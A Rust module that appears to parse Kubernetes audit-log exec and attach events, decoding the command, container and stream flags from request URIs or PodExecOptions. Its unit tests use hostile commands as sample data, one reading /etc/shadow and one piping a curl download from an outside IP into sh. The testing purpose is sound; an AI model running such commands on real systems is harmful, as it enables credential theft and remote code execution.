//! `exec` and `attach` sessions: the command and options, decoded from the request URI.

use crate::raw::RawRecord;
use serde::{Deserialize, Serialize};
use std::borrow::Cow;

/// What an `exec` or `attach` request asked for.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct ExecDetail {
    /// `exec` or `attach` (the subresource).
    pub session: String,
    /// The command, one element per `command=` query parameter in order, percent-decoded; from
    /// `requestObject.command` (PodExecOptions) when the URI has none. Empty for `attach`.
    pub command: Vec<String>,
    /// Where the command came from: `requestURI` or `requestObject`; `null` when there is none.
    pub command_source: Option<String>,
    /// The `container` parameter (the first, when repeated).
    pub container: Option<String>,
    /// The `stdin` parameter.
    pub stdin: bool,
    /// The `stdout` parameter.
    pub stdout: bool,
    /// The `stderr` parameter.
    pub stderr: bool,
    /// The `tty` parameter: an interactive terminal.
    pub tty: bool,
}

/// PodExecOptions / PodAttachOptions, when the request object was logged.
#[derive(Debug, Deserialize)]
struct ExecOptions {
    command: Option<Vec<String>>,
    container: Option<String>,
    stdin: Option<bool>,
    stdout: Option<bool>,
    stderr: Option<bool>,
    tty: Option<bool>,
}

/// Decodes `%XX` escapes and `+` (a space, as in HTML forms and Go's `url.ParseQuery`). An
/// escape that is not two hex digits is kept as it is; bytes that are not UTF-8 become U+FFFD.
pub fn percent_decode(s: &str) -> Cow<'_, str> {
    if !s.contains(['%', '+']) {
        return Cow::Borrowed(s);
    }
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while let Some(&c) = b.get(i) {
        match c {
            b'+' => out.push(b' '),
            b'%' => match (b.get(i + 1).copied().and_then(hex), b.get(i + 2).copied().and_then(hex)) {
                (Some(hi), Some(lo)) => {
                    out.push(hi << 4 | lo);
                    i += 2;
                }
                _ => out.push(b'%'),
            },
            _ => out.push(c),
        }
        i += 1;
    }
    Cow::Owned(String::from_utf8_lossy(&out).into_owned())
}

fn hex(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

/// A boolean query parameter as the API server reads it: false for `0`, `f` and `false` (any
/// case), true otherwise.
fn truthy(v: &str) -> bool {
    !(v == "0" || v.eq_ignore_ascii_case("f") || v.eq_ignore_ascii_case("false"))
}

/// The session details of an `exec`/`attach` event.
pub(crate) fn exec_detail(r: &RawRecord<'_>) -> ExecDetail {
    let mut d = ExecDetail {
        session: r.subresource().to_string(),
        ..ExecDetail::default()
    };
    let (mut seen_stdin, mut seen_stdout, mut seen_stderr, mut seen_tty) = (false, false, false, false);
    if let Some((_, query)) = r.request_uri.as_deref().and_then(|u| u.split_once('?')) {
        let query = query.split_once('#').map_or(query, |(q, _)| q);
        for pair in query.split('&').filter(|p| !p.is_empty()) {
            let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
            let v = percent_decode(v);
            match &*percent_decode(k) {
                "command" => d.command.push(v.into_owned()),
                "container" if d.container.is_none() => d.container = Some(v.into_owned()),
                "stdin" => (d.stdin, seen_stdin) = (truthy(&v), true),
                "stdout" => (d.stdout, seen_stdout) = (truthy(&v), true),
                "stderr" => (d.stderr, seen_stderr) = (truthy(&v), true),
                "tty" => (d.tty, seen_tty) = (truthy(&v), true),
                _ => {}
            }
        }
    }
    if !d.command.is_empty() {
        d.command_source = Some("requestURI".into());
    }
    let options = r
        .request_object
        .and_then(|o| serde_json::from_str::<ExecOptions>(o.get()).ok());
    if let Some(o) = options {
        if d.command.is_empty()
            && let Some(c) = o.command.filter(|c| !c.is_empty())
        {
            d.command = c;
            d.command_source = Some("requestObject".into());
        }
        if d.container.is_none() {
            d.container = o.container;
        }
        let fill = |flag: &mut bool, seen: bool, v: Option<bool>| {
            if !seen && let Some(v) = v {
                *flag = v;
            }
        };
        fill(&mut d.stdin, seen_stdin, o.stdin);
        fill(&mut d.stdout, seen_stdout, o.stdout);
        fill(&mut d.stderr, seen_stderr, o.stderr);
        fill(&mut d.tty, seen_tty, o.tty);
    }
    d
}

/// A command as one line a POSIX shell would split back into the same words: words made only of
/// safe characters are left bare, others are single-quoted.
pub fn shell_words(command: &[String]) -> String {
    let safe = |c: char| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c);
    command
        .iter()
        .map(|w| {
            if !w.is_empty() && w.chars().all(safe) {
                w.clone()
            } else {
                format!("'{}'", w.replace('\'', r"'\''"))
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn detail(event: &str) -> ExecDetail {
        let r: RawRecord<'_> = serde_json::from_str(event).unwrap();
        exec_detail(&r)
    }

    #[test]
    fn percent_decoding() {
        assert_eq!(percent_decode("sh"), "sh");
        assert_eq!(
            percent_decode("cat+%2Fetc%2Fshadow%20%3E%20%2Ftmp%2Fx"),
            "cat /etc/shadow > /tmp/x"
        );
        assert_eq!(percent_decode("100%"), "100%");
        assert_eq!(percent_decode("%zz%4"), "%zz%4");
        assert_eq!(percent_decode("%C3%A9%ff"), "é\u{fffd}");
    }

    #[test]
    fn command_from_the_uri_in_order() {
        let d = detail(
            r#"{"requestURI":"/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&command=curl+-s+http%3A%2F%2F203.0.113.9%2Fx+%7C+sh&container=web&stdin=true&stdout=true&stderr=1&tty=false","objectRef":{"subresource":"exec"}}"#,
        );
        assert_eq!(
            d,
            ExecDetail {
                session: "exec".into(),
                command: vec!["sh".into(), "-c".into(), "curl -s http://203.0.113.9/x | sh".into()],
                command_source: Some("requestURI".into()),
                container: Some("web".into()),
                stdin: true,
                stdout: true,
                stderr: true,
                tty: false,
            }
        );
        assert_eq!(shell_words(&d.command), "sh -c 'curl -s http://203.0.113.9/x | sh'");
    }

    #[test]
    fn command_from_the_request_object_when_the_uri_has_none() {
        let d = detail(
            r#"{"requestURI":"/api/v1/namespaces/a/pods/p/exec","objectRef":{"subresource":"exec"},
            "requestObject":{"kind":"PodExecOptions","command":["id"],"container":"c","tty":true}}"#,
        );
        assert_eq!(d.command, ["id"]);
        assert_eq!(d.command_source.as_deref(), Some("requestObject"));
        assert_eq!((d.container.as_deref(), d.tty, d.stdin), (Some("c"), true, false));
    }

    #[test]
    fn shell_words_quotes_what_needs_it() {
        let w = |v: &[&str]| shell_words(&v.iter().map(|s| s.to_string()).collect::<Vec<_>>());
        assert_eq!(w(&["bash"]), "bash");
        assert_eq!(w(&["echo", "it's", ""]), r"echo 'it'\''s' ''");
    }
}
